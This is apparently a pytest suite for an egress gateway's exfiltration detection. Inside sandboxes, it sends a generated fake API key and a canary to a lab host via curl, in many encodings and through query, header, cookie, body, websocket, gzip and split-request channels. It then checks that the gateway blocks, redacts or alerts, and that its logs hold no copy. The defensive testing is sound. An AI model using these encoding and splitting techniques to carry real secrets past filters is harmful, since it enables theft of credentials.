"""Exfiltration detection end to end: real sandboxes send secrets and canaries out, encoded, through
every main channel; the gateway blocks, redacts or alerts per policy; the origin records what arrived.

The real value of a session secret is handed to the sandboxed process on its command line here, as
if it had read it from a file it should not have; a canary is registered through the control API.
"""

from __future__ import annotations

import base64
import json
import secrets
import sys
import time
import urllib.parse

import pytest

from gateway.lab.harness import WS_CLIENT
import yaml

from gateway.lab.harness import Box

REAL = "sk-proj-" + secrets.token_hex(20)
CANARY = "canary-" + secrets.token_hex(12)


@pytest.fixture(scope="module")
def gateway(lab):
    from gateway.lab.gateway import LabGateway

    gw = LabGateway(lab)
    gw.start(env={"EGW_TEST_DETECT": REAL})
    yield gw
    gw.stop()


def _policy(name: str, detection: dict | None, mode: str = "enforce") -> dict:
    spec: dict = {"mode": mode, "egress": [
        {"name": "allowed", "hosts": [{"matchName": "allowed.test"}, {"matchName": "api.allowed.test"}]},
        {"name": "uploads", "hosts": [{"matchName": "other.test"}], "uploads": True},
    ]}
    if detection is not None:
        spec["detection"] = detection
    return {"apiVersion": "egressgw.dev/v1alpha1", "kind": "EgressPolicy", "metadata": {"name": name}, "spec": spec}


def _up(sandboxes, gateway, kind: str, detection: dict | None, mode: str = "enforce") -> Box:
    secrets_file = gateway.dir / "detect-secrets.yaml"
    secrets_file.write_text(yaml.safe_dump([{"name": "KEY", "source": "env://EGW_TEST_DETECT",
                                             "hosts": [{"matchName": "allowed.test"}]}]))
    name = f"d{sandboxes.tag}{len(sandboxes.names)}"
    path = sandboxes.tmp / f"{name}.yaml"
    path.write_text(yaml.safe_dump(_policy(f"detect-{kind}", detection, mode)))
    info = gateway.sandbox_up(name, path, "--secrets", str(secrets_file))
    sandboxes.names.append(name)
    box = Box(gateway, name, info)
    canaries = gateway.dir / "canaries.txt"  # from a file, never the command line
    canaries.write_text(CANARY + "\n")
    out = gateway.cli("session", "canary", box.session, str(canaries), "--label", "c1")
    assert json.loads(out.stdout) == ["canary:c1"] and CANARY not in out.stdout + out.stderr
    return box


@pytest.fixture(scope="module")
def block_box(sandboxes, gateway):
    return _up(sandboxes, gateway, "block", None)  # the defaults: known values block


@pytest.fixture(scope="module")
def redact_box(sandboxes, gateway):
    return _up(sandboxes, gateway, "redact", {"action": "redact"})


@pytest.fixture(scope="module")
def alert_box(sandboxes, gateway):
    return _up(sandboxes, gateway, "alert", {"action": "alert"})


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def forms_of(value: str) -> list[str]:
    """The value and the encodings this module sends it in: none may show up where it must not."""
    return [value, b64(value), b64(value).rstrip("="), value.encode().hex(), value[::-1],
            base64.b32encode(value.encode()).decode().rstrip("=")]


# channel -> curl arguments (the URL is https://allowed.test/echo unless the entry replaces it)
def channel_args(channel: str, value: str) -> tuple[str, list[str]]:
    url = "https://allowed.test/echo"
    if channel == "query":
        return f"{url}?q=hello&d={urllib.parse.quote(b64(value))}", []
    if channel == "header":
        return url, ["-H", f"X-Trace: {value[::-1]}"]
    if channel == "cookie":
        return url, ["-H", f"Cookie: theme=dark; sid={base64.b32encode(value.encode()).decode()}"]
    if channel == "json":
        return url, ["-H", "Content-Type: application/json", "--data", json.dumps({"note": b64(value), "n": 1})]
    if channel == "form":
        return url, ["--data", f"a=1&b={urllib.parse.quote(b64(value))}"]
    if channel == "multipart":
        return url, ["-F", f"f={value.encode().hex()}", "-F", "g=plain"]
    if channel == "http2":
        return url, ["--http2", "-H", "Content-Type: application/json", "--data", json.dumps({"k": b64(value)})]
    raise ValueError(channel)


CHANNELS = [("query", "canary"), ("header", "secret"), ("cookie", "canary"), ("json", "secret"),
            ("form", "canary"), ("multipart", "secret"), ("http2", "canary")]


def value_of(which: str) -> str:
    return {"canary": CANARY, "secret": REAL}[which]


def leaked(records: list[dict], value: str) -> bool:
    text = json.dumps(records)
    return any(form in text for form in forms_of(value))


def send(box: Box, url: str, args: list[str]) -> tuple[int, str, str]:
    """(status, body, HTTP version) of a curl run inside the sandbox."""
    r = box.run("curl", "-sS", "-m", "20", "-w", "\n%{http_version} %{http_code}", *args, url)
    body, _, tail = r.stdout.rpartition("\n")
    version, _, code = tail.partition(" ")
    return int(code or 0), body, version


@pytest.mark.parametrize("channel, which", CHANNELS)
def test_blocked_in_every_channel(block_box, lab, channel, which):
    value = value_of(which)
    before = lab.records(kind="http", host="allowed.test")
    url, args = channel_args(channel, value)
    status, body, version = send(block_box, url, args)
    assert status == 403, body
    assert "possible exfiltration" in body and "known-value" in body
    assert not any(form in body for form in forms_of(value))
    if channel == "http2":
        assert version == "2"
    assert lab.records(kind="http", host="allowed.test") == before  # nothing reached the origin
    event = block_box.events(event="http", reason="exfiltration")[-1]
    assert event["decision"] == "deny" and event["alert"] is True and event["status"] == 403
    labels = {d["label"] for d in event["detections"] if "label" in d}
    assert {"canary": "canary:c1", "secret": "secret:KEY"}[which] in labels
    assert all({"rule", "part", "offset", "encoding", "action"} <= set(d) for d in event["detections"])


def test_gzip_body_is_looked_into(block_box, lab):
    before = len(lab.records(kind="http", host="allowed.test"))
    r = block_box.run("sh", "-c", f"printf 'log line {b64(CANARY)} end' | gzip | curl -sS -m 10 -o /dev/null "
                                  "-w '%{http_code}' -H 'Content-Encoding: gzip' --data-binary @- "
                                  "https://allowed.test/echo")
    assert r.stdout.strip() == "403", r.stdout + r.stderr
    assert len(lab.records(kind="http", host="allowed.test")) == before
    event = block_box.events(event="http", reason="exfiltration")[-1]
    assert event["detections"][0]["label"] == "canary:c1" and "gzip" in event["detections"][0]["part"]


def test_the_connection_is_kept_after_a_block(block_box):
    # Two requests on one connection: the refused one does not close it (curl reuses it: "Re-using").
    r = block_box.run("curl", "--http1.1", "-sv", "-m", "10", "-o", "/dev/null",
                      f"https://allowed.test/echo?d={b64(CANARY)}", "--next", "--http1.1", "-sv", "-m", "10",
                      "-o", "/dev/null", "https://allowed.test/echo?d=clean")
    assert "< HTTP/1.1 403" in r.stderr and "< HTTP/1.1 200" in r.stderr
    assert "Re-using existing connection" in r.stderr or "Reusing existing" in r.stderr, r.stderr[-2000:]




def test_websocket_message_is_dropped(block_box, lab):
    before = len(lab.records(kind="ws"))
    r = block_box.run(sys.executable, "-c", WS_CLIENT, "allowed.test", json.dumps({"t": b64(REAL)}), user="root")
    assert "egressgw refused this message" in r.stdout and "known-value" in r.stdout, r.stdout + r.stderr
    assert len(lab.records(kind="ws")) == before
    event = block_box.events(method="WEBSOCKET", reason="exfiltration")[-1]
    assert event["detections"][0]["label"] == "secret:KEY" and event["detections"][0]["part"] == "websocket"


def test_split_over_three_requests(block_box, lab):
    enc = urllib.parse.quote(b64(CANARY))
    pieces = [enc[:12], enc[12:24], enc[24:]]
    statuses = [send(block_box, f"https://allowed.test/collect?d={p}", [])[0] for p in pieces]
    assert statuses == [200, 200, 403]
    arrived = [r["path"] for r in lab.records(kind="http", host="allowed.test") if r["path"].startswith("/collect")]
    assert pieces[2] not in "".join(arrived)  # the last piece, which completes the value, never left
    event = block_box.events(event="http", reason="exfiltration")[-1]
    assert event["detections"][0]["part"].startswith("split:query:d") and event["detections"][0]["offset"] < 0


@pytest.mark.parametrize("channel", ["query", "header", "json"])
def test_redacted_and_forwarded(redact_box, lab, channel):
    url, args = {
        "query": ("https://allowed.test/echo?d=" + CANARY + "&x=1", []),
        "header": ("https://allowed.test/echo", ["-H", f"X-Data: before {REAL} after"]),
        "json": ("https://allowed.test/echo", ["-H", "Content-Type: application/json", "--data",
                                               json.dumps({"note": f"see {CANARY}"})]),
    }[channel]
    status, body, _ = send(redact_box, url, args)
    assert status == 200, body
    rec = lab.records(kind="http", host="allowed.test")[-1]
    assert "[REDACTED:known-value]" in json.dumps(rec)
    assert not leaked([rec], CANARY) and not leaked([rec], REAL)
    event = redact_box.events(event="http", reason="exfiltration-redacted")[-1]
    assert event["decision"] == "allow" and event["detections"][0]["action"] == "redact"


def test_alert_only_forwards_and_logs(alert_box, lab):
    status, _, _ = send(alert_box, f"https://allowed.test/echo?d={urllib.parse.quote(b64(CANARY))}", [])
    assert status == 200
    assert leaked(lab.records(kind="http", host="allowed.test")[-1:], CANARY)  # alert: it did go out
    event = alert_box.events(event="http", dest_host="allowed.test")[-1]
    assert event["alert"] is True and event["decision"] == "allow"
    assert event["detections"][0]["action"] == "alert" and event["detections"][0]["label"] == "canary:c1"


def _upload_file(gateway, name: str, size: int, secret: str | None) -> tuple[str, int]:
    """A text file of `size` bytes (low entropy, like a log), with `secret` in the middle. (path, offset)."""
    line = b"2026-11-23T01:00:00Z INFO request served in 12 ms path=/api/v1/items status=200\n"
    block = line * (65536 // len(line) + 1)
    path = gateway.dir / name
    offset = -1
    with open(path, "wb") as f:
        written = 0
        while written < size:
            piece = block[: size - written]
            if secret and offset < 0 and written >= size // 2:
                offset = written
                piece = secret.encode() + piece[len(secret):]
            f.write(piece)
            written += len(piece)
    path.chmod(0o644)
    return str(path), offset


def _peak_rss(gateway) -> int:
    for line in open(f"/proc/{gateway.proc.pid}/status"):
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM")


SIZE = 64 << 20


def test_large_streamed_upload_is_cut_before_the_secret(block_box, gateway, lab):
    path, offset = _upload_file(gateway, "upload-secret.log", SIZE, b64(REAL))
    peak = _peak_rss(gateway)
    started = time.monotonic()
    r = block_box.run("curl", "-sS", "-m", "120", "-o", "/dev/null", "-w", "%{http_code}", "-T", path,
                      "https://allowed.test/upload-a", timeout=150)
    elapsed = time.monotonic() - started
    assert r.stdout.strip() != "200", r.stdout + r.stderr
    rec = lab.wait_records(kind="http", host="allowed.test", path="/upload-a")[-1]
    assert rec["body_len"] <= offset, (rec["body_len"], offset)  # cut before the secret's first byte
    grown = _peak_rss(gateway) - peak
    assert grown < 48 << 20, f"gateway peak RSS grew by {grown >> 20} MiB for a {SIZE >> 20} MiB upload"
    event = block_box.events(event="http", reason="exfiltration")[-1]
    assert event["detections"][0]["label"] == "secret:KEY" and event["detections"][0]["part"] == "body"
    print(f"streamed upload cut after {rec['body_len']} of {SIZE} bytes in {elapsed:.1f}s; "
          f"gateway peak RSS {peak >> 20} -> {(peak + grown) >> 20} MiB")


def test_clean_upload_of_the_same_size_passes(block_box, gateway, lab):
    path, _ = _upload_file(gateway, "upload-clean.log", SIZE, None)
    peak = _peak_rss(gateway)
    started = time.monotonic()
    r = block_box.run("curl", "-sS", "-m", "120", "-o", "/dev/null", "-w", "%{http_code}", "-T", path,
                      "https://allowed.test/upload-b", timeout=150)
    elapsed = time.monotonic() - started
    assert r.stdout.strip() == "200", r.stdout + r.stderr
    rec = lab.records(kind="http", host="allowed.test", path="/upload-b")[-1]
    assert rec["body_len"] == SIZE
    grown = _peak_rss(gateway) - peak
    assert grown < 48 << 20, f"gateway peak RSS grew by {grown >> 20} MiB"
    event = block_box.events(event="http", dest_host="allowed.test")[-1]
    assert event["decision"] == "allow" and "detections" not in event and event["bytes_out"] == SIZE
    print(f"clean {SIZE >> 20} MiB upload in {elapsed:.1f}s ({SIZE / elapsed / 1e6:.0f} MB/s); "
          f"gateway peak RSS {peak >> 20} -> {(peak + grown) >> 20} MiB")


def test_the_same_upload_with_detection_off(sandboxes, gateway, lab):
    """The price of scanning: the clean upload again, through a policy with `detection: {enabled: false}`."""
    box = _up(sandboxes, gateway, "off", {"enabled": False})
    path, _ = _upload_file(gateway, "upload-clean.log", SIZE, None)
    peak = _peak_rss(gateway)
    started = time.monotonic()
    r = box.run("curl", "-sS", "-m", "120", "-o", "/dev/null", "-w", "%{http_code}", "-T", path,
                "https://allowed.test/upload-c", timeout=150)
    elapsed = time.monotonic() - started
    assert r.stdout.strip() == "200", r.stdout + r.stderr
    assert lab.records(kind="http", host="allowed.test", path="/upload-c")[-1]["body_len"] == SIZE
    # Without detection nothing streams: mitmproxy holds the whole body (what streaming saves above).
    print(f"clean {SIZE >> 20} MiB upload, detection off: {elapsed:.1f}s ({SIZE / elapsed / 1e6:.0f} MB/s); "
          f"gateway peak RSS {peak >> 20} -> {_peak_rss(gateway) >> 20} MiB")


def test_metrics_count_by_rule_and_action(gateway, block_box):
    text = gateway.metrics()
    assert 'egressgw_detections_total{action="block",rule="known-value"}' in text
    assert 'reason="exfiltration"' in text


def test_no_value_in_any_artifact(gateway, block_box):
    """Last: the values and every encoding sent above, searched for in what the gateway wrote."""
    artifacts = {
        "flow log": gateway.log_path.read_text(),
        "gateway output": gateway.stderr(),
        "metrics": gateway.metrics(),
        "sessions": json.dumps(gateway.client().list_sessions()),
    }
    assert "exfiltration" in artifacts["flow log"]
    for where, text in artifacts.items():
        for value in (REAL, CANARY):
            for form in forms_of(value):
                assert form not in text, f"a form of a value in {where}"
